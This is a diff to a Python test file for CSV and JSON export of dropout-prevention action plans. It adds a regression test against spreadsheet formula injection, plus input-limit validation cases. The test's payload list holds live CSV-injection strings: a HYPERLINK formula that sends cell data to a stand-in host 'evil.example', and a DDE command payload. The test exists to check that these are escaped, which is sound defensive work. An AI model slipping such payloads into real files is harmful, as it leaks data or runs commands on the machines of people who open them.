@@ -3,6 +3,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+from dataclasses import replace
 from datetime import date
 from decimal import Decimal
 from typing import Any
@@ -26,6 +27,7 @@ from pacte_improvement.domain import (
     last_day,
     period_of,
 )
+from pacte_improvement.domain.steering_export import EXPORT_COLUMNS
 
 from ._fixtures import small_plan
 
@@ -96,7 +98,7 @@ def test_export_csv_for_steering_committee() -> None:
     text = export_csv(_items())
     rows = list(csv.DictReader(io.StringIO(text)))
     assert text.splitlines()[0] == (
-        "plan_id,year,action_id,reason_addressed,reason_label,description,owner_role,due_on,status"
+        '"plan_id","year","action_id","reason_addressed","reason_label","description","owner_role","due_on","status"'
     )
     assert [r["reason_addressed"] for r in rows] == ["project_abandoned", "material_reason"]
     assert rows[0]["description"] == 'Entretien "projet" à J+5'
@@ -105,6 +107,18 @@ def test_export_csv_for_steering_committee() -> None:
     assert rows[1]["due_on"] == "2020-03-31"
     assert rows[1]["year"] == "2019"
     assert export_csv([]).count("\n") == 1
+
+
+@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "=cmd|' /C calc'!A0",
+                                     "+1+1", "-2+3", "@SUM(1+1)", "\tTAB", "\r=1+1", "x;=1+1"])
+def test_the_export_never_hands_a_formula_to_a_spreadsheet(payload: str) -> None:
+    """Issue 18: an organisation's action text starting with = + - @ came back as a live formula."""
+    item = replace(_items()[0], description=payload, owner_role=payload)
+    [row] = list(csv.reader(io.StringIO(export_csv([item]), newline="")))[1:]
+    description, owner_role = row[EXPORT_COLUMNS.index("description")], row[EXPORT_COLUMNS.index("owner_role")]
+    assert description == owner_role
+    assert description == (payload if payload.startswith("x") else "'" + payload)
+    assert json.loads(export_json([item]))[0]["description"] == payload  # JSON is data: kept as written
 
 
 def test_export_json_for_steering_committee() -> None:
@@ -161,6 +175,9 @@ def test_record_an_action() -> None:
     {"reason_addressed": 3},
     {"status": True},
     {"action_id": ""},
+    # Input limits (issue 18): years outside the calendar, text and ids of any size, formulas stay text.
+    {"year": 0}, {"year": 10000}, {"year": 99999999999999999999},
+    {"description": "x" * 5_000_000}, {"action_id": "DA/1"}, {"action_id": "D" * 65},
 ])
 def test_a_malformed_action_is_invalid_at_stage_1(change: dict[str, Any]) -> None:
     result = parse(RecordDropoutAction, {**_ACTION, **change})
@@ -173,8 +190,6 @@ def test_a_malformed_action_is_invalid_at_stage_1(change: dict[str, Any]) -> Non
 @pytest.mark.parametrize(("change", "exists"), [
     ({"reason_addressed": "nope"}, False),
     ({"status": "late"}, False),
-    ({"year": 0}, False),
-    ({"year": 10000}, False),
     ({}, True),
 ])
 def test_bad_values_are_invalid_after_ownership(change: dict[str, Any], exists: bool) -> None:
